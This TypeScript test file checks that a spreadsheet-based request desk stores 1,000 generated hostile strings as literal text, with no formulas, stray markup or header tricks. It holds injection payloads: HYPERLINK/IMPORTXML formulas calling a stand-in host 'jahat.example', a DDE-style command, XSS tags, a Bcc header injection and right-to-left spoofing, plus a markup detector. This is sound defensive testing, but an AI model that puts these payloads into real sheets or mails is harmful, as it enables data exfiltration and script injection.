// Text from outside is data: whatever applicants type, cells hold it letter by letter, and mails, events and pages none of its markup.
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import type { CalendarEventInfo, ExecutionRecord, Mail } from '../../../packages/local-workspace/src/facade.ts';
import { listed } from '../../listed.ts';
import { desperateDesk, errorsOf, PEOPLE, PLAIN_ANSWERS, type Row, type TestDesk } from '../desk.ts';
import { QUESTIONS } from '../tabs.ts';

const STRINGS = 1_000;
const CELL_LIMIT = 50_000;
const BREAKS_A_LINE = /[\p{Cc}\p{Zl}\p{Zp}]/u;
const TURNS_DIRECTION = /[\u202A-\u202E\u2066-\u2069]/;
const LONG = 'x'.repeat(CELL_LIMIT + 1);

/** The questions that take text once the form's own checks are off, and the columns that hold the answers. */
const FIELDS = [
  [QUESTIONS.institution, 'Instansi'],
  [QUESTIONS.contactName, 'Narahubung'],
  [QUESTIONS.contactRole, 'Jabatan'],
  [QUESTIONS.phone, 'WhatsApp'],
  [QUESTIONS.activity, 'Kegiatan'],
  [QUESTIONS.description, 'Uraian'],
  [QUESTIONS.letterNumber, 'No. Surat'],
  [QUESTIONS.materials, 'Materi'],
] as const;

const PARTICIPANTS = QUESTIONS.participants;

const STARTS = ['', '=', '+', '-', '@', '\t', '\r', '\n', "'", "''", '"', ' =', '\u0000=', '\uFEFF=', '\u00A0'];
const BODIES = [
  ...listed`
    HYPERLINK("https://jahat.example","klik") · IMPORTXML("https://jahat.example/"&A1,"//a") · cmd|' /C calc'!A0 · 1+1
    SUM(A1:A9) · 007 · 0812 · 3/12/2026 · 2026-12-03 · 1E5 · TRUE · FALSE · 10:30 · 1,5 · 50% · Rp1.000 · 1/2 · #REF!
    #N/A · null · undefined · [object Object] · __proto__ · constructor · $\u007b7*7} · {{7*7}}
    <script>alert(1)</script> · <img src=x onerror=alert(1)> · </td></tr></table></body><h1>Disetujui
    <a href="https://jahat.example"> · "><b style="font-size:99px"> · ]]> · &lt;b&gt; &amp; &#60;i&#62;
    javascript:alert(1) · \u202Egnp.exe\u202C \u2066isi\u2069 · 👩🏽‍🏫👨‍👩‍👧‍👦🇮🇩 · A\u0301\u0323\u200D\u200B
    \uD83D tanpa pasangan \uDE00 · \u0001\u0007\u001B[31m\u007F · Sekolah “Harapan” & Rekan, 100% <baik>
    مدرسة ١٢٣ בית ספר
  `,
  '<!-- ',
  'Yth.\r\nBcc: semua@jahat.example\r\n\r\nIsi palsu',
  'satu\u2028dua\u2029tiga\u0085empat',
];

/** Text that nobody means well with; each differs from the others. */
function hostileStrings(): string[] {
  const text = fc.oneof(
    {
      weight: 8,
      arbitrary: fc.tuple(fc.constantFrom(...STARTS), fc.constantFrom(...BODIES)).map((both) => both.join('')),
    },
    {
      weight: 2,
      arbitrary: fc.array(fc.constantFrom(...BODIES), { minLength: 2, maxLength: 4 }).map((all) => all.join('')),
    },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }) },
  );
  const strings = fc.sample(text, { numRuns: STRINGS, seed: 20261124 });
  // The form refuses an answer of nothing but blanks where it wants one.
  return strings.map((each, index) =>
    index % 125 === 124 ? `=${LONG}${index}` : each.trim() === '' ? `${each}.` : each,
  );
}

describe(`${STRINGS} hostile strings`, () => {
  let desk: TestDesk;
  let rows: Row[] = [];
  let mails: Mail[] = [];
  let events: CalendarEventInfo[] = [];
  const asked: Readonly<Record<string, string>>[] = [];
  const scheduled: string[] = [];
  const executions: ExecutionRecord[] = [];

  beforeAll(async () => {
    desk = desperateDesk('2026-11-24T08:12:05+07:00');
    desk.workspace.run('dropTextChecks', [], PEOPLE.owner);
    await desk.allowAllReceipts();
    const strings = hostileStrings();
    while (strings.length > 0) {
      // Every other applicant can be written to, so that their mails are there to be looked at.
      const email = asked.length % 2 === 0 ? [] : [QUESTIONS.email];
      const titles = [...FIELDS.map(([title]) => title), PARTICIPANTS, ...email];
      const texts = Object.fromEntries(titles.map((title) => [title, strings.pop() ?? '=1']));
      asked.push(texts);
      const day = new Date(Date.UTC(2027, 3, 4 + asked.length + 2 * Math.floor((asked.length - 1) / 5)));
      const startDate = { [QUESTIONS.startDate]: day.toISOString().slice(0, 10) };
      executions.push(...(await desk.submit({ ...PLAIN_ANSWERS, ...texts, ...startDate })));
    }
    const numbers = (await desk.rows()).map(({ 'No.': No }) => String(No));
    const codes = await Promise.all(numbers.map((number) => desk.codes(number)));
    const free = numbers.filter((_, index) => /^(?:EMAIL_SUSPECT)?$/.test(codes[index] ?? ''));
    for (const number of free.slice(0, 5)) {
      scheduled.push(number);
      executions.push(await desk.choose(number, 'Disposisikan ke Kasi', 'kabid', '=1+1'));
      executions.push(await desk.choose(number, 'Tetapkan jadwal, disposisikan ke Admin', 'kasi', '<b>setuju'));
      executions.push(await desk.choose(number, 'Masukkan ke agenda', 'admin'));
    }
    executions.push(...desk.workspace.run('rebuildReport', [], PEOPLE.owner).executions);
    rows = await desk.rows('Permohonan', { display: false });
    mails = await desk.mails();
    events = await desk.events('2027-01-01T00:00:00+07:00', '2028-01-01T00:00:00+07:00');
  });

  it('stop nobody: each is a request with its number', () => {
    expect(errorsOf(executions)).toEqual([]);
    expect(rows.map(({ 'No.': No }) => No)).toEqual(
      asked.map((_, index) => `PC-2026-${String(index + 1).padStart(4, '0')}`),
    );
  });

  it('stand in their cells letter by letter', () => {
    for (const [index, texts] of asked.entries()) {
      for (const [title, column] of [...FIELDS, [QUESTIONS.email, 'Email'] as const]) {
        const text = texts[title];
        if (text === undefined || text.length > CELL_LIMIT) continue;
        expect(rows[index]?.[column], `${column} of ${JSON.stringify(text)}`).toBe(text);
      }
    }
  });

  it('stand among the notes where they are no number of people', () => {
    for (const [index, texts] of asked.entries()) {
      const text = texts[PARTICIPANTS] ?? '';
      const { Peserta, 'Catatan Petugas': notes } = rows[index] ?? {};
      if (/^\s*\d+\s*$/.test(text)) expect(Peserta).toBe(Number(text));
      else expect([Peserta, notes]).toEqual(['', expect.stringContaining(`${PARTICIPANTS}: ${text.slice(0, 49_000)}`)]);
    }
  });

  it('longer than a cell are cut where everybody sees it', () => {
    const cut = asked.flatMap((texts, index) =>
      FIELDS.flatMap(([question, column]) => {
        const text = texts[question] ?? '';
        return text.length > CELL_LIMIT ? [{ row: rows[index], question, column, text }] : [];
      }),
    );
    expect(cut.length).toBeGreaterThan(4);
    for (const { row, question, column, text } of cut) {
      expect(row?.[column]).toBe(`${text.slice(0, CELL_LIMIT - 1)}…`);
      expect(row?.['Catatan Petugas']).toContain(`${question}: terlalu panjang untuk satu sel`);
    }
  });

  it('are not taken for edits by hand when the sheet is read again', async () => {
    expect(errorsOf(await desk.at('2026-11-24T10:30:00+07:00'))).toEqual([]);
    const steps = (await desk.rows('Riwayat')).map(({ Langkah }) => Langkah);
    expect(steps).toHaveLength(asked.length + 3 * scheduled.length);
    expect((await desk.rows('Permohonan', { display: false })).map(({ Uraian }) => Uraian)).toEqual(
      rows.map(({ Uraian }) => Uraian),
    );
  });

  it('are a formula nowhere', async () => {
    for (const tab of ['Permohonan', 'Agenda', 'Riwayat', 'Kotak Keluar', 'Laporan 2026']) {
      expect((await desk.sheet(tab)).formulas, tab).toEqual({});
    }
  });

  it('leave the mails their own markup, whole', () => {
    expect(mails.length).toBeGreaterThan(80);
    for (const { html = '', subject } of mails) {
      expect(strangeMarkup(html)).toEqual([]);
      expect(subject).not.toMatch(BREAKS_A_LINE);
      expect(subject).not.toMatch(TURNS_DIRECTION);
      expect(subject.length).toBeLessThanOrEqual(250);
    }
  });

  it('are no markup in the calendar, whose descriptions show it', () => {
    expect(events).toHaveLength(2 * scheduled.length);
    for (const { description, title } of events) {
      expect(description).not.toMatch(/<[a-z/!?]/i);
      expect(title).not.toMatch(BREAKS_A_LINE);
      expect(title).not.toMatch(TURNS_DIRECTION);
    }
  });

  it('stand in the agenda as they were sent', async () => {
    const agenda = await desk.rows('Agenda', { display: false });
    expect(agenda.map(({ 'No.': No }) => No)).toEqual(scheduled);
    expect(scheduled).toHaveLength(5);
    for (const line of agenda) {
      const row = rows.find(({ 'No.': No }) => No === line['No.']);
      for (const header of ['Instansi', 'Kegiatan', 'Narahubung', 'WhatsApp']) {
        // Of what is too long to be recorded whole, the beginning is.
        const recorded = String(line[header]).replace(/(?<=^.{900,})…$/s, '');
        expect(String(row?.[header]).startsWith(recorded), header).toBe(true);
        if (String(row?.[header]).length < 1000) expect(line[header]).toBe(row?.[header]);
      }
    }
  });
});

/** Tags that our mails do not use, attributes that act, and tags that are not closed in order. */
function strangeMarkup(html: string): string[] {
  const known =
    /^(?:!doctype|html|head|meta|title|style|body|div|p|h1|h2|h3|table|tbody|tr|td|th|ul|ol|li|a|b|strong|em|br|hr|span|img)$/;
  const single = /^(?:!doctype|meta|br|hr|img)$/;
  const strange: string[] = [];
  const open: string[] = [];
  for (const [whole, close, name = '', attributes = ''] of html.matchAll(/<(\/?)([a-z!][a-z0-9]*)([^>]*)>/gi)) {
    const tag = name.toLowerCase();
    if (!known.test(tag) || /\son\w+\s*=|javascript:|jahat/i.test(attributes)) strange.push(whole);
    if (close) {
      if (open.pop() !== tag) strange.push(`unbalanced ${whole}`);
    } else if (!single.test(tag) && !attributes.endsWith('/')) open.push(tag);
  }
  return [...strange, ...open.map((tag) => `open ${tag}`)];
}
